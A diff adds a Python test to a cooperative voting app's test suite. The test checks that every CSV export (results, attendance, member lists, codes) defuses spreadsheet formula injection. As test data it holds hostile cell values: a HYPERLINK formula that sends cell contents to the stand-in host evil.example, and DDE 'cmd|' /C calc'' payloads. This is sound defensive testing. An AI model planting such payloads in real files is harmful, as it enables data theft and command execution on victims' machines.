@@ -7,17 +7,18 @@ import asyncio
 import csv
 import io
 import json
+import re
 
 import httpx
 import pypdf
-from tests.web.assembly_helpers import as_role, cooperative
+from tests.web.assembly_helpers import as_role, cooperative, post_form
 from tests.web.helpers import csrf_token, sign_in
 
 from votes.core import tally
 from votes.core.formats import parse_blt
 from votes.core.results import TallyResult
-from votes.db.tables import Assembly, Ballot
-from votes.services import exports
+from votes.db.tables import Assembly, Ballot, Membership, Person
+from votes.services import attendance, ballots, exports, organisations, proxies
 
 
 async def _demo_ids() -> tuple[int, int]:
@@ -138,3 +139,77 @@ async def test_another_organisations_assembly_cannot_be_exported(
         # the foreign assembly id under the coop's own address, then under the demo's
         assert (await client.get(f"{coop.base}/assemblies/{assembly_id}/{tail}")).status_code == 404
         assert (await client.get(f"/o/demo/assemblies/{assembly_id}/{tail}")).status_code == 404
+
+
+# what members and admins may type, as a spreadsheet would run it
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
+CATEGORY = "@SUM(1+1)*cmd|' /C calc'!A0"
+COLLEGE = "+Collège"
+INSTRUCTIONS = "-2+3+cmd|' /C calc'!A0"
+QUESTION = "=1+1 ? Adoptez-vous"
+LABEL = "-Contre"
+
+
+def _inert_cells(text: str, delimiter: str = ",") -> set[str]:
+    """Every cell of a CSV, after checking that none would run as a formula (the app's own
+    numbers, negative ones too, are numbers)."""
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))
+    cells = {cell for row in rows for cell in row}
+    for cell in cells:
+        if cell.lstrip(" \n\u00a0")[:1] in ("=", "+", "-", "@", "\t", "\r"):
+            assert re.fullmatch(r"-\d+(/\d+)?", cell), f"{cell!r} would run as a formula"
+    return cells
+
+
+async def test_no_csv_export_lets_a_spreadsheet_run_what_someone_typed(
+    client: httpx.AsyncClient,
+) -> None:
+    coop = await cooperative()
+    organisation_id, assembly_id = coop.organisation_id, coop.assembly_id
+    memberships = {
+        row["person"]: row["id"]
+        for row in await Membership.select(Membership.id, Membership.person).where(
+            Membership.organisation == organisation_id
+        )
+    }
+    member, other = memberships[coop.people["member"]], memberships[coop.people["other"]]
+    await Person.update({Person.name: HYPERLINK}).where(Person.id == coop.people["member"])
+    await organisations.add_category(organisation_id, CATEGORY)
+    college = await organisations.add_college(organisation_id, COLLEGE, "100")
+    await Membership.update({Membership.category: CATEGORY, Membership.college: college}).where(
+        Membership.id == member
+    )
+    # the facilitator also keeps the register
+    await Membership.update({Membership.is_admin: True}).where(
+        Membership.person == coop.people["facilitator"]
+    )
+    await attendance.check_in(organisation_id, assembly_id, member)
+    await proxies.give_proxy(organisation_id, assembly_id, other, member, instructions=INSTRUCTIONS)
+    ballot_id = await ballots.create_ballot(
+        organisation_id,
+        assembly_id,
+        QUESTION,
+        "score",
+        [("against", LABEL), ("for", "Pour")],
+        rules={"scale": [-2, 2]},
+    )
+    await ballots.open_ballot(ballot_id)
+    await ballots.cast_vote(ballot_id, member, {"against": -2, "for": 1})
+    await ballots.close_ballot(ballot_id)
+    await ballots.publish_ballot(ballot_id)
+    await as_role(client, coop, "facilitator")
+    base = f"{coop.base}/assemblies/{assembly_id}"
+
+    results = _inert_cells((await client.get(f"{base}/results.csv")).text)
+    assert {"'" + QUESTION, "'" + LABEL, "-2"} <= results  # a negative total stays a number
+    result = _inert_cells((await client.get(f"{coop.base}/ballots/{ballot_id}/result.csv")).text)
+    assert {"'" + LABEL, "-2"} <= result
+    signing_sheet = _inert_cells((await client.get(f"{base}/attendance.csv")).text)
+    assert {"'" + HYPERLINK, "'" + CATEGORY, "'" + COLLEGE} <= signing_sheet
+    register = _inert_cells((await client.get(f"{base}/attendance/register.csv")).text)
+    assert {"'" + HYPERLINK, "'" + INSTRUCTIONS} <= register
+    export = await client.get(f"{coop.base}/members/export.csv")
+    assert {"'" + HYPERLINK, "'" + CATEGORY, "'" + COLLEGE} <= _inert_cells(export.text, ";")
+    row = "\t".join([HYPERLINK, "m@example.org", CATEGORY, "ABCD-EFGH", "http://x/c/1", "2026"])
+    codes = await post_form(client, f"{coop.base}/members/codes/csv", {"row": row})
+    assert {"'" + HYPERLINK, "'" + CATEGORY} <= _inert_cells(codes.text, ";")
